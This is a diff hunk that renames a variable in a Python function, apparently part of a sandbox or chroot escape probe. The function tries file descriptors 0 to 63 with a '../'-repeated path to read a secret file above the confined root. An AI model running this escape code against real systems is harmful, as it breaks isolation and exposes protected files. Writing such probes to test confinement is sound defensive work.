@@ -63,10 +63,10 @@ def by_open_folder() -> str:
     """Climb above the root from open folders."""
     for fd in range(64):
         try:
-            found = os.open(f"{'../' * 16}{SECRET.lstrip('/')}", os.O_RDONLY, dir_fd=fd)
+            descriptor = os.open(f"{'../' * 16}{SECRET.lstrip('/')}", os.O_RDONLY, dir_fd=fd)
         except OSError:
             continue
-        return os.read(found, 4096).decode(errors="replace")
+        return os.read(descriptor, 4096).decode(errors="replace")
     return ""
 
 
